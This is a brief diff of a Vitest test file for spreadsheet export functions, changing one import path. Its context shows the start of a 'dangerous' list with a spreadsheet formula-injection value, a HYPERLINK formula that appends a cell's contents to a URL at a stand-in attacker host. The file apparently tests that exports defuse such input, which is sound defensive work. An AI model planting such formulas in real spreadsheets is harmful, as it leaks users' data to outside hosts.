@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import Papa from 'papaparse';
 import ExcelJS from 'exceljs';
-import { tabularResponse, toCsv, toXlsx } from '../../src/lib/server/spreadsheet';
+import { tabularResponse, toCsv, toXlsx } from '../../src/lib/server/http/spreadsheet';
 
 const dangerous = [
 	'=HYPERLINK("http://evil.example/?d="&B2,"Öppna")',
